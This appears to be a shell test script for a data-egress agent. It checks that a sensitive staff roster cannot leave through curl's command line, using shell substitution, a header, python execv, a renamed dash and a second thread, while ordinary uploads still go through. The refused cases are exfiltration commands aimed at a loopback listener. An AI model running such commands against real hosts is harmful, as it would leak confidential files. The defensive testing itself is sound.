#!/bin/sh
# A Class I file cannot reach an upload program as its arguments (issue 14, round 19), in the
# real futarid with fanotify alone (no BPF taint). Before, `curl -d "$(cat staff.csv)" URL`
# sent the roster: the shell read it (cat into a command substitution, or `$(<file)`) and
# curl opened nothing. Now, before an upload program runs, its command line is read from the
# starting process's memory (/proc/PID/syscall, process_vm_readv) and decided as a file it
# opened: Class I/II refuses the start (exit 126 from the shell, EPERM), and upload.denied
# says "(command line)" with "call":"exec" and "source":"argv". Ordinary arguments (a public
# notice's text), a long command line (100,000 arguments) and curl started by a C launcher
# with its arguments in the launcher's own file mapping go. curl sends to a listener on
# loopback in the test's network namespace.
. "$(dirname "$0")/agent-lib.sh"
agent_enter_ns "$@"
. "$(dirname "$0")/lib.sh"
require_cmd setpriv curl timeout bash python3 ip cc seq
agent_setup
user_home

upload_fixture "programs = /usr/bin/curl"
start_agent
L="$TEST_TMP/log"

loopback_listener
URL="http://127.0.0.1:$P/"
C="curl -s -m 10 -o /dev/null -H Expect:"

denials() { grep -c '"event":"upload.denied"' "$L"/egress-*.jsonl 2>/dev/null || true; }
# refused NAME CMD: CMD (bash, as the attacker) must not deliver the number to the listener,
# and a new upload.denied for the command line must follow.
refused() {
	before=$(denials)
	: >"$recv"
	as_u timeout 30 bash -c "$2" >"$TEST_TMP/$1.log" 2>&1 || true
	sleep 0.5
	if grep -q 379474484458 "$recv"; then
		fail "$1: the Class I file went out as curl's arguments: $2"
	fi
	for _ in $(seq 200); do
		[ "$(denials)" -gt "$before" ] && break
		sleep 0.1
	done
	tail -n +"$((before + 1))" "$L"/egress-*.jsonl | grep '"event":"upload.denied"' |
		grep '"call":"exec"' | grep '"source":"argv"' | grep -q '"class":"I"' ||
		fail "$1: no upload.denied for curl's command line: $(tail -n 1 "$L"/egress-*.jsonl | cut -c1-600) ($(cat "$TEST_TMP/$1.log"))"
}
allowed() { # NAME CMD WORD: WORD must reach the listener
	: >"$recv"
	as_u timeout 60 bash -c "$2" >"$TEST_TMP/$1.log" 2>&1 || true
	sleep 0.5
	grep -q -- "$3" "$recv" || fail "$1: an ordinary command line was refused: $(head -c 300 "$TEST_TMP/$1.log") $(grep upload.denied "$L"/egress-*.jsonl | tail -n 1 | cut -c1-700)"
}

# --- refused ------------------------------------------------------------------------------
refused subst "$C --data-binary \"\$(cat '$U/staff.csv')\" $URL"
refused redirect "$C --data-binary \"\$(<'$U/staff.csv')\" $URL"
refused header "$C -H \"X-Roster: \$(tr '\n' ' ' <'$U/staff.csv')\" $URL"
# started by a program other than a shell: python3's execv, the strings on its heap
refused python "python3 -c 'import os, sys; d = open(sys.argv[1]).read(); os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-d\", d, \"$URL\"])' '$U/staff.csv'"
# started by a copy of dash called curl (an upload program by name, not the same executable)
mkdir -p "$U/bin"
cp /bin/dash "$U/bin/curl"
chown 65534:65534 "$U/bin/curl"
chmod 0755 "$U/bin/curl"
refused fakestarter "'$U/bin/curl' -c '/usr/bin/$C --data-binary \"\$(cat $U/staff.csv)\" $URL'"
# execv from a second thread: the event names the process, the call is the thread's
refused thread "python3 -c 'import os, sys, threading; d = open(sys.argv[1]).read(); t = threading.Thread(target=lambda: os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-d\", d, \"$URL\"])); t.start(); t.join()' '$U/staff.csv'"

# --- allowed ------------------------------------------------------------------------------
allowed thread-public "python3 -c 'import os, sys, threading; d = open(sys.argv[1]).read(); t = threading.Thread(target=lambda: os.execv(\"/usr/bin/curl\", [\"curl\", \"-s\", \"-m\", \"10\", \"-o\", \"/dev/null\", \"-H\", \"Expect:\", \"-d\", d, \"$URL\"])); t.start(); t.join()' '$U/notice.txt'" 'public notice'
allowed public "$C --data-binary \"\$(cat '$U/notice.txt')\" -H 'X-Id: 12345' $URL" 'public notice'
# a long command line: 100,000 arguments (curl joins them into its body)
allowed long "$C \$(seq -f '-dx%.0f' 100000) -d long-one $URL" 'long-one'
# arguments as string literals in a program's own file mapping (execl with literals)
cc_bin="$TEST_TMP/launch"
cat >"$TEST_TMP/launch.c" <<CSRC
#include <unistd.h>
int main(void) { execl("/usr/bin/curl", "curl", "-s", "-o", "/dev/null", "-H", "Expect:", "--data-binary", "literal-one", "$URL", (char *)0); return 127; }
CSRC
cc -o "$cc_bin" "$TEST_TMP/launch.c" || fail "cannot build the launcher"
chmod 0755 "$cc_bin"
allowed literal "'$cc_bin'" 'literal-one'

st=$(as_user "$FUTARI" status --json)
grep -q '"event":"upload.denied".*notice.txt' "$L"/egress-*.jsonl && fail "a Class III file was refused"
stop_agent
exit 0
